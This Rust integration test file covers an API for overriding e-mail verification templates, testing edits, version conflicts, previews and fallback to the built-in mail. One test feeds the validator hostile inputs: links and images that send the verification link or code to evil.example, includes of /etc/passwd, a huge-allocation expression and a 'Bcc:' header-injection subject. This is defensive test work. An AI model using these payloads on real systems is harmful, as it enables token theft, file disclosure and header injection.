//! Saying something else in mails: what is taken, what is refused, and what is sent.

use crate::{Platform, people::someone};
use database::ConnectionTrait;
use serde_json::{Value, json};
use shared::Locale;
use testkit::Actor;

const CODE: &str = "/api/v1/mail-templates/verify_email/en";

fn words() -> Value {
    json!({
        "subject": "Welcome to Acme",
        "mjml": "{% extends \"layout\" %}{% block title %}Welcome{% endblock %}{% block body %}\
                 <mj-text mj-class=\"paragraph\">Hello {{ email }}, your code is {{ code_digits }}.</mj-text>\
                 <mj-button mj-class=\"button\" href=\"{{ link }}\">Go</mj-button>{% endblock %}",
        "text": "Hello {{ email }}!\n\n{{ link }}\n\n{{ code_digits }}\n",
    })
}

fn with(field: &str, value: &str) -> Value {
    let mut words = words();
    words[field] = value.into();
    words
}

async fn signed_up(platform: &Platform, email: &'static str) -> testkit::Mail {
    someone(platform, email, Locale::En, None).await.signs_up(platform).await;
    platform.mail_to(email).await
}

#[tokio::test]
async fn an_operator_says_it_in_their_own_words_and_takes_them_back() {
    let platform = Platform::start().await;
    let admin = platform.admin().await;
    let listed = admin.get("/api/v1/mail-templates").await.expect(200).json();
    assert_eq!(listed["items"].as_array().unwrap().len(), 36);
    let before = admin.get(CODE).await.expect(200);
    assert_eq!(before.header("etag"), "\"0\"");
    let before = before.json();
    assert_eq!((&before["is_overridden"], &before["subject"]), (&json!(false), &json!("Confirm your e-mail address")));
    assert_eq!(before["values"]["code_digits"], "012345");

    let put = admin.put(CODE, &words()).await.expect(200);
    assert_eq!(put.header("etag"), "\"1\"");
    assert_eq!(put.json()["built_in"]["subject"], "Confirm your e-mail address");
    let mail = signed_up(&platform, "alice@example.org").await;
    assert_eq!(mail.0.subject, "Welcome to Acme");
    assert!(mail.0.text.starts_with("Hello alice@example.org!"), "{}", mail.0.text);
    assert!(mail.0.html.contains(&mail.code()) && mail.0.html.contains("Welcome"), "{}", mail.0.html);

    admin.put(CODE, &with("subject", "Welcome, really")).await.expect(200);
    assert_eq!(signed_up(&platform, "bob@example.org").await.0.subject, "Welcome, really");
    admin.delete(CODE).await.expect(204);
    admin.delete(CODE).await.problem(404, "not_found");
    assert_eq!(signed_up(&platform, "chloe@example.org").await.0.subject, "Confirm your e-mail address");
}

#[tokio::test]
async fn two_operators_do_not_overwrite_each_other() {
    let platform = Platform::start().await;
    let admin = platform.admin().await;
    let matching = |version: &str| admin.clone().with("if-match", version);
    matching("\"1\"").put(CODE, &words()).await.problem(412, "precondition_failed");
    matching("\"0\"").put(CODE, &words()).await.expect(200);
    matching("\"0\"").put(CODE, &words()).await.problem(412, "precondition_failed");
    matching("\"1\"").put(CODE, &words()).await.expect(200);
    matching("\"1\"").delete(CODE).await.problem(412, "precondition_failed");
    matching("\"2\"").delete(CODE).await.expect(204);
}

#[tokio::test]
async fn words_of_which_no_mail_can_be_made_are_refused_where_they_are_wrong() {
    let platform = Platform::start().await;
    let admin = platform.admin().await;
    let body = |body: &str| {
        format!(
            "<mjml><mj-body><mj-section><mj-column><mj-text>{body}</mj-text></mj-column></mj-section></mj-body></mjml>"
        )
    };
    for (field, value) in [
        ("subject", "two\nlines"),
        ("subject", "{{ link }}"),
        ("subject", "{{ nobody }}"),
        ("subject", "{{ email"),
        ("mjml", "<p>no MJML</p>"),
        ("mjml", "<mjml><mj-body>"),
        ("mjml", &body("no link")),
        ("mjml", &body("{{ link }} {{ nobody }}")),
        ("mjml", &body("{% if false %}{{ nobody }}{% endif %}{{ link }}")),
        ("mjml", &body("{{ link }}<img src=\"https://evil.example/?{{ link }}\" />")),
        ("mjml", &body("{{ link }}<img src=\"https://evil.example/?{{ link|upper }}\" />")),
        ("mjml", &body("{{ link }}<a href=\"https://evil.example/{{ code_digits }}\">x</a>")),
        ("mjml", &body("{{ link }}{{ [1] * 99999999 }}")),
        ("mjml", &body("{% include \"/etc/passwd\" %}{{ link }}")),
        ("mjml", "<mjml><mj-body><mj-include path=\"/etc/passwd\" /></mj-body></mjml>"),
        ("text", "no link"),
        ("text", "https://evil.example/?{{ link }}"),
        ("text", "{{ link }} {{ nobody }}"),
        ("text", "{% for a in email %}{{ link }}"),
        ("text", "{% set a = 1 %}{{ link }}"),
    ] {
        let pointer = format!("/{field}");
        admin.put(CODE, &with(field, value)).await.invalid(&pointer);
        admin.post(&format!("{CODE}/preview"), &json!({ field: value })).await.invalid(&pointer);
    }
    admin.put(CODE, &with("text", " ")).await.invalid("/text");
    admin.put(CODE, &with("subject", "")).await.invalid("/subject");
    for path in ["/api/v1/mail-templates/nothing/en", "/api/v1/mail-templates/verify_email/de"] {
        admin.get(path).await.problem(404, "not_found");
        admin.put(path, &words()).await.problem(404, "not_found");
        admin.post(&format!("{path}/preview"), &json!({})).await.problem(404, "not_found");
    }
}

#[tokio::test]
async fn words_that_fail_when_it_counts_give_way_to_the_built_in_mail() {
    let platform = Platform::start().await;
    let admin = platform.admin().await;
    for (subject, mjml, text) in [
        ("Hello", "broken", "{{ link }}"),
        ("Hello", "<mjml><mj-body></mj-body></mjml>", "{{ link }}"),
        ("{{ nobody }}", "<mjml><mj-body></mj-body></mjml>", "{{ link }}"),
        ("Hello\nBcc: all@example.org", "<mjml><mj-body></mj-body></mjml>", "{{ link }}"),
    ] {
        admin.put(CODE, &words()).await.expect(200);
        let tx = platform.database.write().await.unwrap();
        // As if a later version knew less than the one that took them.
        let change = format!(
            "UPDATE mail_templates SET subject = '{subject}', mjml = '{mjml}', text = '{text}', version = version + 1"
        );
        tx.execute_unprepared(&change).await.unwrap();
        tx.commit().await.unwrap();
        let platform = &platform;
        let email: &'static str = Box::leak(format!("p{}@example.org", mjml.len() + subject.len()).into_boxed_str());
        let mail = signed_up(platform, email).await;
        assert_eq!(mail.0.subject, "Confirm your e-mail address");
        assert!(!mail.link_token().is_empty() && !mail.code().is_empty());
    }
}

async fn tried(admin: &Actor, path: &str, body: Value) -> Value {
    admin.post(path, &body).await.expect(200).json()
}

#[tokio::test]
async fn a_mail_can_be_looked_at_and_sent_to_oneself() {
    let platform = Platform::start().await;
    let admin = platform.admin().await;
    let built_in = tried(&admin, &format!("{CODE}/preview"), json!({})).await;
    assert_eq!(built_in["subject"], "Confirm your e-mail address");
    assert!(built_in["html"].as_str().unwrap().contains("012345"));
    let own = tried(&admin, &format!("{CODE}/preview"), json!({ "subject": "Mine" })).await;
    assert_eq!((&own["subject"], &own["text"]), (&json!("Mine"), &built_in["text"]));
    // The one about the device that they signed in with.
    platform.settle().await;
    let sent = tried(&admin, &format!("{CODE}/test"), words()).await;
    assert_eq!(sent["sent"], true);
    let mail = platform.mail_to("admin@example.org").await;
    assert_eq!((mail.0.subject.as_str(), mail.code().as_str()), ("Welcome to Acme", "012345"));
    assert_eq!(admin.get(CODE).await.expect(200).json()["is_overridden"], false);
}
